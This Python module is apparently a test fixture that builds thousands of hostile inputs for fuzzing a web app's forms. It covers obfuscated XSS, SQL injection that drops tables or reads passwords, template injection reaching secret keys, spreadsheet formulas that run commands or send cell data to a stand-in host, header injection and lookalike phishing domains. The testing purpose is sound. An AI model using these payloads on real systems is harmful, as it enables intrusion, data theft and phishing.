"""What people type who mean harm: some six thousand texts, each made here from a few parts.

Whatever of it came to life would call `alert`, `confirm` or `prompt`, or set `pwned`, which the browser tests watch.
"""

import itertools
import re

CALLS = [
    "alert(1)", "alert`1`", "(alert)(1)", "top['al'+'ert'](1)", "confirm(1)", "prompt(1)", "pwned=1", "window.pwned=1",
    "self['pwned']=1", "eval('pwned=1')", "setTimeout('pwned=1')", "[1].map(alert)", "new Function('pwned=1')()",
    "import('data:text/javascript,pwned=1')", "&#97;lert(1)", "\\u0061lert(1)",
]  # fmt: skip
TAGS = [
    "a", "audio", "b", "base", "body", "button", "details", "div", "embed", "form", "frameset", "iframe", "img",
    "input",
    "isindex", "link", "marquee", "math", "meta", "object", "select", "style", "svg", "table", "textarea", "video",
    "x-y",
]  # fmt: skip
EVENTS = [
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onbegin", "onanimationstart",
    "onpointerenter", "onscroll", "onwheel", "onpageshow", "onhashchange", "onbeforetoggle",
    "oncontentvisibilityautostatechange",
]  # fmt: skip
DRESSINGS = [
    "<{tag} {event}={call}>",
    '<{tag} src=x href="x" {event}="{call}" autofocus tabindex=0>',
    "<{tag}/{event}='{call}'//",
    "<{tag}\t{event}\n=\n`{call}`>",
    "<{tag}\x0c{event}\x00={call} x",
    "<{upper} {upper_event}={call}>",
    "<<{tag} {event}={call}>>",
    "&lt;{tag} {event}={call}&gt;",
    "<{tag} style=animation-name:x;position:fixed;inset:0 {event}={call}>",
    "\uff1c{tag} {event}={call}\uff1e",
    "<\u200b{tag} {event}={call}>",
    "<!--><{tag} {event}={call}>-->",
]
MARKUP = [
    "<script>{call}</script>",
    "<script src=data:text/javascript,{call}></script>",
    "<ScRiPt\x0b>{call}</sCrIpT >",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script href=data:,{call} /></svg>",
    "<svg><animate attributeName=href values=javascript:{call} /><a id=x><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}>#x'></use></svg>",
    "<svg><foreignObject><body onload={call}></foreignObject></svg>",
    "<math href=javascript:{call}>x</math>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data=javascript:{call}></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=javascript:{call}//>",
    "<link rel=stylesheet href=data:text/css,*{{x:expression({call})}}>",
    "<style>@import 'javascript:{call}';</style>",
    "<form action=javascript:{call}><input type=submit autofocus></form>",
    "<input onfocus={call} autofocus>",
    "<details open ontoggle={call}>",
    "<a href=javascript:{call} autofocus>x</a>",
    "<template><img src=x onerror={call}></template>",
    "<div style=background:url(javascript:{call})>",
    "<button formaction=javascript:{call}>x</button>",
]
CLOSERS = [
    '"', "'", "`", ">", '">', "'>", "-->", "]]>", "*/", "</p>", "</bdi>", "</a>", "</li></ol>", "</article>",
    "</title>",
    "</style>", "</script>", "</textarea>", "</noscript>", "</template>", "</select>", "\\\"", "\\'", "&quot;",
    "&#34;&#62;",
    '"}}', "'}});", "%}", "{% endautoescape %}", "\u2028",
]  # fmt: skip
ROOMS = [
    "svg", "math", "select", "table", "template", "noscript", "noembed", "noframes", "xmp", "plaintext", "listing",
    "title",
    "textarea", "style", "option", "svg><desc", "svg><title", "math><mtext", "math><annotation-xml encoding=text/html",
    "math><mglyph", "form><math", "p><svg", "frameset", "details><summary", "dialog open", "slot", "object",
]  # fmt: skip
SCHEMES = [
    "javascript:{call}", "javascript://%0a{call}", "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload={call}>",
    "vbscript:{call}",
    "blob:https://trap.example/{call}", "file:///etc/passwd", "ftp://trap.example/", "//trap.example/{call}",
    "\\\\trap.example", "view-source:javascript:{call}", "filesystem:http://trap.example/", "about:blank#{call}",
    "ws://trap.example", "jar:javascript:{call}!/", "intent://trap.example#Intent;end", "mailto:x?body={call}",
]  # fmt: skip
DISGUISES = {
    "plain": lambda text: text,
    "capitals": str.upper,
    "mixed": lambda text: "".join(sign.upper() if place % 2 else sign for place, sign in enumerate(text)),
    "tabs": lambda text: "\t".join(text[:6]) + text[6:],
    "newlines": lambda text: "\n".join(text[:6]) + text[6:],
    "nulls": lambda text: "\x00".join(text[:6]) + text[6:],
    "before": lambda text: f"\x01 \x1f{text}",
    "entities": lambda text: "".join(f"&#x{ord(sign):x};" for sign in text[:12]) + text[12:],
    "bare entities": lambda text: "".join(f"&#{ord(sign):07d}" for sign in text[:12]) + text[12:],
    "named": lambda text: text.replace(":", "&colon;").replace("(", "&lpar;"),
    "percent": lambda text: "".join(f"%{ord(sign):02x}" for sign in text[:12]) + text[12:],
    "escapes": lambda text: "".join(f"\\x{ord(sign):02x}" for sign in text[:12]) + text[12:],
    "wide": lambda text: (
        "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text[:12]) + text[12:]
    ),
    "zero width": lambda text: "\u200b".join(text[:10]) + text[10:],
    "backwards": lambda text: f"\u202e{text}\u202c",
    "soft hyphens": lambda text: "\u00ad".join(text[:10]) + text[10:],
}
CARRIERS = [
    "{address}", '<a href="{address}">x</a>', "<a href={address}>x", "[x]({address})", "[x]: {address}", "<{address}>",
    "https://{address}", "https:{address}", "https://trap.example@{address}", "http://trap.example/?next={address}",
    "[url={address}]x[/url]", "https://trap.example/#{address}",
]  # fmt: skip
TAILS = ['"', "'", "`", ">", "<", '" ', "' ", "\t", "\\", "&quot;", "%22", "%0a", "\u201d", "\u2028", "\x0b", "]", ")"]
TEMPLATES = [
    "{{{{{x}}}}}", "{{%{x}%}}", "{{% {x} %}}", "{{#{x}#}}", "${{{x}}}", "#{{{x}}}", "<%={x}%>", "<?={x}?>",
    "<?php {x} ?>",
    "${{{{{x}}}}}", "@({x})", "[[{x}]]", "{{{{={x}}}}}", "{{{{{x}|safe}}}}", "%({x})s", "{{{x}}}", "{{0.{x}}}",
    "$({x})", "`{x}`",
]  # fmt: skip
EXPRESSIONS = [
    "7*7", "settings.SECRET_KEY", "request.user.password", "self.__class__.__mro__",
    "constructor.constructor('pwned=1')()",
    "include 'registration/login.html'", "load static", "debug", "autoescape off", "lipsum.__globals__", "''.__class__",
    "extends 'base.html'", "csrf_token", "now 'Y'", "alert(1)",
]  # fmt: skip
STATEMENTS = [
    "OR 1=1", "OR '1'='1", "; DROP TABLE comments_readercomment; --", "UNION SELECT password FROM accounts_user --",
    "; SELECT pg_sleep(9)--", "AND sleep(9)#", "|| (SELECT version())", "); DELETE FROM accounts_user; --",
    "' AND ''='",
    "; COPY accounts_user TO '/tmp/x'", "/**/OR/**/1", "HAVING 1=1", "ORDER BY 99", "%' ESCAPE '", "\\'; --",
]  # fmt: skip
OPENERS = ["", "'", '"', "')", '")', "'))", "1", "%", "_", "\\", "1'", "\u02bc", "\uff07", "a' "]
FORMULAS = [
    "cmd|' /C calc'!A0", "HYPERLINK(\"http://trap.example/\"&A1,\"x\")", "1+1", "SUM(1+1)*cmd|' /C calc'!A0",
    "IMPORTXML(\"http://trap.example\",\"//a\")", "WEBSERVICE(\"http://trap.example\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
FORMULA_SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "|", "%", "\uff1d", ' "=', ";=", "\n="]
LINE_ENDS = [
    "\r\n",
    "\n",
    "\r",
    "%0d%0a",
    "%0A",
    "\\r\\n",
    "\u2028",
    "\u2029",
    "\x85",
    "\x0b",
    "\x1e",
    "&#10;",
    "=0D=0A",
    "=?utf-8?q?=0A?=",
]
HEADERS = [
    "Bcc: victim@trap.example", "Content-Type: text/html\r\n\r\n<script>alert(1)</script>", "Set-Cookie: session=1",
    "Location: //trap.example", "Subject: You won", "X-Header: 1\r\n\r\nBody", "To: a@trap.example, b@trap.example",
    "Content-Transfer-Encoding: base64", "HTTP/1.1 200 OK", "Reply-To: x@trap.example",
    "\r\n.\r\nMAIL FROM:<x@trap.example>",
]  # fmt: skip
JSON_ENDS = [
    '"',
    '"}',
    '"]}',
    '\\"',
    "\\",
    "</script>",
    "<!--<script>",
    "-->",
    "]]>",
    "\u2028",
    "*/",
    "\\u003c/script\\u003e",
    "&quot;}",
]
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
UNSEEN = "\u00ad\u034f\u115f\u17b4\u180e\u200b\u200c\u200d"
UNSEEN += "\u2060\u2061\u2063\u206a\u3164\ufeff\ufff9\ufffb\uffa0\U000e0001\U000e0041"
ODD = "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\ufdd0\ufffe\uffff\ud800\udbff\udc00\udfff\U0001fffe\U0010ffff"
WORDS = ["serum", "script", "paypal", "glow", "اهلا", "שלום", "ไทย", "हिन्दी", "👩🏽‍🔬", "\ufdfa"]
# Latin letters, each with letters of other alphabets that look like it.
TWINS = {
    "a": "а\u0251",
    "c": "сϲ",
    "e": "еҽ",
    "i": "іι",
    "o": "оο0",
    "p": "рρ",
    "s": "ѕ",
    "x": "хχ",
    "y": "уү",
    "l": "ӏ1I",
}
HOSTS = ["paypal.example", "sephora.example", "apple.example", "clinic.example", "cosmos.example"]
NAMED = ["admin", "Beauty Desk", "moderator", "editor", "staff"]


def markup():
    for number, (tag, event) in enumerate(itertools.product(TAGS, EVENTS)):
        for turn in range(4):
            dressing = DRESSINGS[(number + 3 * turn) % len(DRESSINGS)]
            call = CALLS[(number + turn) % len(CALLS)]
            yield dressing.format(tag=tag, event=event, call=call, upper=tag.upper(), upper_event=event.title())
    for form, call in itertools.product(MARKUP, CALLS):
        yield form.format(call=call)


def breakouts():
    for number, (closer, form) in enumerate(itertools.product(CLOSERS, MARKUP)):
        yield closer + form.format(call=CALLS[number % len(CALLS)])
    for number, (room, form) in enumerate(itertools.product(ROOMS, MARKUP)):
        name = re.match(r"[\w-]+", room)[0]
        yield f"<{room}>" + form.format(call=CALLS[number % len(CALLS)]) + f"</{name}>"


def addresses():
    for number, (scheme, disguise) in enumerate(itertools.product(SCHEMES, DISGUISES.values())):
        address = disguise(scheme.format(call=CALLS[number % len(CALLS)]))
        for turn in range(3):
            yield CARRIERS[(number + 5 * turn) % len(CARRIERS)].format(address=address)
    for number, (tail, event) in enumerate(itertools.product(TAILS, EVENTS)):
        yield f"https://trap.example/{tail}{event}={CALLS[number % len(CALLS)]}"


def languages():
    """Templates, SQL, spreadsheets, headers and JSON."""
    yield from (form.format(x=expression) for form, expression in itertools.product(TEMPLATES, EXPRESSIONS))
    yield from (f"{opener} {statement}" for opener, statement in itertools.product(OPENERS, STATEMENTS))
    yield from (sign + formula for sign, formula in itertools.product(FORMULA_SIGNS, FORMULAS))
    yield from (f"Gus{end}{header}" for end, header in itertools.product(LINE_ENDS, HEADERS))
    for number, (end, form) in enumerate(itertools.product(JSON_ENDS, MARKUP[:12])):
        yield f'{end},"x":"{form.format(call=CALLS[number % len(CALLS)])}'


def signs():
    """Unicode: what turns round, hides, towers or cannot be."""
    for sign, word in itertools.product(BIDI + UNSEEN + ODD, WORDS):
        yield f"{word}{sign}txt.exe"
        yield f"{sign * 20}{word}"
    for accent, height in itertools.product("\u0300\u0336\u0489\u20dd\u0e49\u0f35", (3, 40, 400)):
        yield "glow".replace("o", "o" + accent * height)
    for length in (300, 1_000, 4_999):
        yield from (letter * length for letter in "WÄ漢👏\u202e")


def twins():
    """Names and addresses that look like others."""
    for text in HOSTS + NAMED:
        for letter, others in TWINS.items():
            for other in others:
                if letter in text:
                    twin = text.replace(letter, other)
                    yield from [f"https://{twin}/log-in", twin] if "." in text else [twin]


FAMILIES = [markup, breakouts, addresses, languages, signs, twins]
PAYLOADS = list(dict.fromkeys(text for family in FAMILIES for text in family()))

# What is too big to stand in a list of thousands: each is sent once.
GIANTS = {
    "a megabyte": "x" * 1_000_000,
    "a megabyte of tags": "<b>" * 330_000,
    "10,000 lines": "\n".join("y" * 10_000),
    "10,000 empty lines": "a" + "\n" * 10_000 + "b",
    "a tower": "a" + "\u0301" * 20_000,
    "nulls": "\x00" * 10_000,
    "turning round": "\u202e" * 10_000,
    "one long word": "w" * 5_001,
    "ligatures": "\ufdfa" * 5_000,
    "addresses": "https://a.example " * 2_000,
    "brackets": "[" * 50_000,
}
# Bodies of forms that are no UTF-8, as bytes.
BROKEN_BYTES = [
    b"\xff\xfe", b"caf\xe9", b"\xc0\xaf", b"\xed\xa0\x80", b"\xed\xb0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80",
    b"\xc0\x80", b"\xf8\x88\x80\x80\x80", b"%ff%fe", b"%u0041", b"%", b"%zz", b"\x00\xff", b"\xef\xbb\xbf%00",
]  # fmt: skip


def storable(text, most=None):
    """The text without what no database keeps; shortened if need be. Everything else stays as harmful as it is."""
    return text.replace("\x00", "").encode(errors="ignore").decode()[:most] or "-"


def together(how_many, most=None):
    """The payloads, so many in one text, each on a line of its own: for pages that would be thousands otherwise."""
    for start in range(0, len(PAYLOADS), how_many):
        yield storable("\n".join(PAYLOADS[start : start + how_many]), most)
